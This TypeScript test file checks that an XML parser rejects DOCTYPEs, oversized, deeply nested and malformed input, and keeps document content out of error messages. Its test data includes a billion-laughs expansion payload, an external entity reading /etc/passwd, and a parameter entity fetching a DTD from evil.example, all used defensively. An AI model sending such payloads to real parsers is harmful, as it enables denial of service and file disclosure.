import { codeOf, wsErrorOf } from '../testing/expect-code';
import { NS } from './namespaces';
import { parseXml } from './parse-xml';

const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<lolz>&lol9;</lolz>`;

describe('parseXml', () => {
  it('parses a namespaced document', () => {
    const doc = parseXml(Buffer.from(`\uFEFF<s:Envelope xmlns:s="${NS.soap12}"><s:Body>a &amp; b</s:Body></s:Envelope>`));
    expect(doc.documentElement!.localName).toBe('Envelope');
    expect(doc.documentElement!.textContent).toBe('a & b');
  });

  it.each([
    ['billion laughs', BILLION_LAUGHS],
    ['external entity', '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'],
    ['parameter entity', '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]><r/>'],
    ['DOCTYPE without entities', '<!DOCTYPE r><r/>'],
    ['lower-case doctype', '<!doctype r><r/>'],
    ['entity declaration hidden after the root', '<r/><!ENTITY x "y">'],
  ])('refuses %s with xml.doctype_forbidden', (_name, xml) => {
    expect(codeOf(() => parseXml(xml))).toBe('xml.doctype_forbidden');
  });

  it('refuses a 6 MiB document with xml.too_large before parsing it', () => {
    const big = `<r>${'x'.repeat(6 * 1024 * 1024)}</r>`;
    expect(codeOf(() => parseXml(big))).toBe('xml.too_large');
    expect(codeOf(() => parseXml(Buffer.from(big)))).toBe('xml.too_large');
  });

  it('counts bytes, not characters, against the cap', () => {
    const xml = `<r>${'é'.repeat(600)}</r>`; // 607 characters, 1207 bytes
    expect(codeOf(() => parseXml(xml, { maxBytes: 1000 }))).toBe('xml.too_large');
    expect(parseXml(xml, { maxBytes: 2000 }).documentElement!.textContent).toHaveLength(600);
  });

  it('refuses deep nesting with xml.too_deep', () => {
    const deep = '<a>'.repeat(100_000) + '</a>'.repeat(100_000);
    expect(codeOf(() => parseXml(deep))).toBe('xml.too_deep');
    expect(codeOf(() => parseXml('<a>'.repeat(11) + '</a>'.repeat(11), { maxDepth: 10 }))).toBe('xml.too_deep');
  });

  it('does not count self-closing tags, comments, CDATA or ">" inside attributes as nesting', () => {
    const xml = `<a x="/>" y='>'><b z="/>"/><!-- <c><c><c> --><![CDATA[<d><d>]]><e/><e/><?pi <f>?></a>`;
    expect(parseXml(xml, { maxDepth: 1 }).documentElement!.localName).toBe('a');
    expect(codeOf(() => parseXml('<a x="/>"><b></b></a>', { maxDepth: 1 }))).toBe('xml.too_deep');
  });

  it.each([
    ['empty input', ''],
    ['whitespace only', '  \n '],
    ['plain text', 'Service Unavailable'],
    ['HTML error page', '<html><body><p>Bad gateway</body></html>'],
    ['truncated document', `<s:Envelope xmlns:s="${NS.soap12}"><s:Body><x>`],
    ['truncated inside a tag', '<r><x a="1'],
    ['undefined entity', '<r>&nbsp;</r>'],
    ['unbound prefix', '<p:r/>'],
    ['two roots', '<a/><b/>'],
    ['trailing text', '<a/>junk'],
    ['duplicate attribute', '<a x="1" x="2"/>'],
  ])('refuses %s with xml.malformed', (_name, xml) => {
    expect(codeOf(() => parseXml(xml))).toBe('xml.malformed');
  });

  it('checks the root element when asked', () => {
    const expectRoot = { namespace: NS.soap12, localName: 'Envelope' };
    expect(codeOf(() => parseXml('<Envelope/>', { expectRoot }))).toBe('xml.unexpected_root');
    expect(codeOf(() => parseXml(`<s:Body xmlns:s="${NS.soap12}"/>`, { expectRoot }))).toBe('xml.unexpected_root');
    expect(parseXml(`<s:Envelope xmlns:s="${NS.soap12}"/>`, { expectRoot }).documentElement!.localName).toBe('Envelope');
  });

  it('does not echo the document into the error message', () => {
    const secret = 'Password1!-should-not-leak';
    // wsErrorOf fails the test when parsing does not throw, so this cannot pass on a parser that accepts the input.
    const err = wsErrorOf(() => parseXml(`<r>\n${secret}</x>`));
    expect(err.code).toBe('xml.malformed');
    expect(err.message).not.toContain(secret);
    expect(JSON.stringify(err.details ?? {})).not.toContain(secret);
  });
});
